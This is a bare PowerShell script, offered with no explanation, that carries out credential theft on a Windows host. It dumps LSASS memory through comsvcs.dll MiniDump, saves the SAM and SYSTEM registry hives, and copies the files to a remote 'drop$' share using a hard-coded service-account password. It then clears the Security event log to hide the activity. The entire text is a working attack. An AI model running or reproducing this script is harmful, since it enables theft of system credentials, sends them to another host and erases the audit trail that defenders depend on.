$lsass = Get-Process -Name lsass
$dump = "C:\Windows\Temp\$($lsass.Id).dmp"
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id $dump full

reg.exe save HKLM\SAM C:\Windows\Temp\sam.save /y
reg.exe save HKLM\SYSTEM C:\Windows\Temp\system.save /y

$user = 'svc_backup'
$password = 'Spring2024!Backup'
$cred = New-Object System.Management.Automation.PSCredential($user, (ConvertTo-SecureString $password -AsPlainText -Force))
Copy-Item -Path 'C:\Windows\Temp\*.save', $dump -Destination '\\10.0.8.14\drop$' -Credential $cred
wevtutil.exe cl Security
